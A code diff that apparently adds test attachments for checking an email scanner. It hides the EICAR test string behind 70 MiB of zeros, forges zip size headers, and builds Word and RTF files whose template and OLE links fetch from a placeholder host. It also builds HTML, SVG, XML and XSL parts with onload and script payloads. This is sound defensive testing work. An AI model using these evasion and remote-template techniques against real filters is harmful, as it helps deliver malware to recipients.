@@ -12,8 +12,10 @@ import bz2
 import gzip
 import io
 import lzma
+import struct
 import tarfile
 import zipfile
+from collections.abc import Callable
 from email.utils import formatdate, make_msgid
 
 from outpost.attack import content
@@ -255,4 +257,77 @@ def wrappings() -> dict[str, bytes]:
     }
     return {
         name: _mixed(_part(f'attachment; filename="{file}"', data)) for name, (file, data) in files.items()
+    }
+
+
+PADDING = 70 * 2**20
+"""More than a scanner that is set to the largest message reads of one file."""
+
+
+def _padded() -> bytes:
+    return bytes(PADDING) + content.eicar()
+
+
+def _lying(archive: bytes, size: int) -> bytes:
+    """A zip archive of one member that declares another size, in both places (APPNOTE.TXT, sections 4.3.7 and 4.3.12)."""
+    made = bytearray(archive)
+    struct.pack_into("<I", made, 22, size)
+    struct.pack_into("<I", made, archive.rfind(b"PK\1\2") + 24, size)
+    return bytes(made)
+
+
+PADDED: dict[str, Callable[[], bytes]] = {
+    "a.zip": lambda: content.zipped({"a.dat": _padded()}),
+    "lies.zip": lambda: _lying(content.zipped({"a.dat": _padded()}), 80_000),
+    "a.tar.gz": lambda: content.tar_gz({"a.zip": content.zipped({"a.dat": _padded()})}),
+    "a.gz": lambda: gzip.compress(_padded(), 1),
+    "a.pdf": lambda: content.pdf_with(_padded()),
+    "a.docx": lambda: content.zipped({"word/document.xml": b"<x/>", "word/embeddings/a.dat": _padded()}),
+    "many.zip": lambda: content.zipped(
+        {**{f"{at}.dat": bytes(PADDING) for at in range(9)}, "a.dat": _padded()}
+    ),
+}
+"""The test virus behind many zeros, by the name of a file; made when asked for, for they take a second each."""
+
+
+def _related(kind: str, target: str) -> bytes:
+    """A Word document with a relationship to something elsewhere (ECMA-376, part 2, section 6.5)."""
+    types = "http://schemas.openxmlformats.org"
+    relation = (
+        f'<Relationships xmlns="{types}/package/2006/relationships"><Relationship Id="rId1" '
+        f'Type="{types}/officeDocument/2006/relationships/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
+    )
+    return content.zipped({"word/document.xml": b"<x/>", "word/_rels/settings.xml.rels": relation.encode()})
+
+
+def documents() -> dict[str, bytes]:
+    """Documents that fetch a program or carry one as an object."""
+    return {
+        "template.docx": _related("attachedTemplate", "http://x.invalid/a.dotm"),
+        "share.docx": _related("attachedTemplate", "\\\\x.invalid\\a.dotm"),
+        "object.docx": _related("oleObject", "mhtml:http://x.invalid/a!x"),
+        "object.rtf": b"{\\rtf1{\\object\\objemb{\\*\\objdata 0105000002000000}}}",
+        "template.rtf": b"{\\rtf1{\\*\\template http://x.invalid/a}}",
+    }
+
+
+def pages() -> dict[str, bytes]:
+    """Pages that act when they are opened, not attached but shown (RFC 2183, section 2.1)."""
+    script = "<html><script>location='http://x.invalid'</script></html>"
+    said = {
+        "onload": ("a.html", "text/html", b"<html><body onload='x()'>"),
+        "onload behind a slash": ("a.html", "text/html", b"<svg/onload=x()>"),
+        "a page within": ("a.html", "text/html", b'<iframe srcdoc="&lt;script&gt;">'),
+        "UTF-16": ("a.html", "text/html", script.encode("utf-16")),
+        "another type": ("a.xht", "application/octet-stream", script.encode()),
+        "XML": (
+            "a.xml",
+            "application/xml",
+            b'<x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>x()</h:script></x>',
+        ),
+        "XSL": ("a.xsl", "text/xml", b"<xsl:stylesheet><msxsl:script>x()</msxsl:script></xsl:stylesheet>"),
+    }
+    return {
+        what: _mixed(_part(f'inline; filename="{name}"', data, kind))
+        for what, (name, kind, data) in said.items()
     }
